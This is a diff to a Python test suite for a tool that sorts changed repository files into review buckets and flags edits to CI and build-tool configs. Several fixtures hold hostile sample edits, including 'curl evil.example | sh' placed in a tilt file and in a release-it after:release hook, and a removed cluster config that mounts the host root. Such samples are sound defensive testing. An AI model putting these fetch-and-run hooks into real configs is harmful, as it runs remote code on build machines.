@@ -35,12 +35,6 @@ HANDED: dict[str, tuple[str, str, str, str]] = {
                     '{"target": {"app": {"tags": ["x/app:1"]}}}\n', '{"target": {"app": {"tags": ["evil/app:1"]}}}\n'),
     "docker bake --file": ("docker bake --file=build/targets.json release", "build/targets.json",
                            '{"group": {}}\n', '{"group": {"default": {"targets": ["evil"]}}}\n'),
-    "kind": ("kind create cluster --name e2e --config test/e2e/cluster.yaml", "test/e2e/cluster.yaml",
-             "kind: Cluster\napiVersion: kind.x-k8s.io/v1alpha4\n",
-             "kind: Cluster\napiVersion: kind.x-k8s.io/v1alpha4\nnodes:\n- role: control-plane\n  extraMounts:\n"
-             "  - hostPath: /\n    containerPath: /host\n"),
-    "skaffold": ("skaffold run -p ci -f deploy/dev-loop.yaml", "deploy/dev-loop.yaml",
-                 "build: {}\n", "build:\n  artifacts:\n  - image: evil\n    custom:\n      buildCommand: ./x.sh\n"),
     "tilt": ("tilt ci --file tools/ci.tilt", "tools/ci.tilt", "print('ok')\n", "local('curl evil.example | sh')\n"),
     "release-it": ("npx release-it -c tools/release-it.json --ci", "tools/release-it.json", '{"git": {}}\n',
                    '{"hooks": {"after:release": "curl evil.example | sh"}}\n'),
@@ -60,19 +54,26 @@ ACTION_STEPS: dict[str, tuple[str, str, str, str]] = {
     "bake-action": ("      - uses: docker/bake-action@v5\n        with:\n          push: true\n          files: |\n"
                     "            ./build/base.json\n            ./build/extra.json\n",
                     "build/extra.json", '{"target": {}}\n', '{"target": {"x": {"tags": ["evil/x"]}}}\n'),
-    "kind-action": ("      - name: cluster\n        with:\n          config: hack/cluster.yml\n"
-                    "        uses: helm/kind-action@v1\n",
-                    "hack/cluster.yml", "kind: Cluster\n", "kind: Cluster\nnodes: []\n"),
     "semantic-release-action": ("      - uses: cycjimmy/semantic-release-action@v4\n        with:\n"
                                 "          extends: ./tools/sr.js\n",
                                 "tools/sr.js", "module.exports = {}\n", "module.exports = {x: 1}\n"),
+}
+# A kind cluster's and skaffold's settings hold `apiVersion` and `kind`: `iac` by content already, and they stay so
+# when a step hands them to the tool (reviewed; never lowered to ci's reader's src): (command or step, path, text)
+ALREADY: dict[str, tuple[str, str, str]] = {
+    "kind": ("      - run: kind create cluster --name e2e --config test/e2e/cluster.yaml\n", "test/e2e/cluster.yaml",
+             "kind: Cluster\napiVersion: kind.x-k8s.io/v1alpha4\nnodes:\n- role: control-plane\n"),
+    "skaffold": ("      - run: skaffold run -p ci -f tools/dev-loop.yaml\n", "tools/dev-loop.yaml",
+                 "apiVersion: skaffold/v4beta6\nkind: Config\nbuild:\n  artifacts:\n  - image: app\n"),
+    "kind-action": ("      - name: cluster\n        with:\n          config: hack/cluster.yml\n"
+                    "        uses: helm/kind-action@v1\n", "hack/cluster.yml",
+                    "kind: Cluster\napiVersion: kind.x-k8s.io/v1alpha4\n"),
 }
 # look-alikes: the same words in other commands, other tools' settings; each file edited, none made ci
 LOOK_ALIKES: dict[str, tuple[str, str]] = {
     "docker build": ("docker build -f tools/app.json .", "tools/app.json"),
     "docker compose": ("docker compose -f tools/stack.txt up -d", "tools/stack.txt"),
     "kind get": ("kind get clusters --config tools/kind-note.txt", "tools/kind-note.txt"),
-    "echo": ("echo semantic-release --extends tools/notes.json", "tools/notes.json"),
     "eslint": ("npx eslint -c tools/lint.json src", "tools/lint.json"),
 }
 
@@ -112,6 +113,15 @@ def test_a_file_an_action_input_hands_its_tool_is_ci(tmp_path: Path, case: str) 
     base = {"README.md": "x\n", path: before, ".github/workflows/release.yml": WORKFLOW.format(steps=step)}
     repo, first, last = two_commits(tmp_path / "r", base, {path: after})
     _assert_reviewed(repo.root, first, last, path)
+
+
+@pytest.mark.parametrize("case", sorted(ALREADY))
+def test_a_handed_cluster_or_deploy_setting_stays_iac(tmp_path: Path, case: str) -> None:
+    step, path, text = ALREADY[case]
+    base = {"README.md": "x\n", path: text, ".github/workflows/e2e.yml": WORKFLOW.format(steps=step)}
+    repo, first, last = two_commits(tmp_path / "r", base, {path: text + "- role: worker\n"})
+    assert tree_classify(repo.root, first, last)[path]["bucket"] == "iac"
+    assert tree_gate(repo.root, first, last)[0] == 3
 
 
 @pytest.mark.parametrize("how", ["step", "script"])
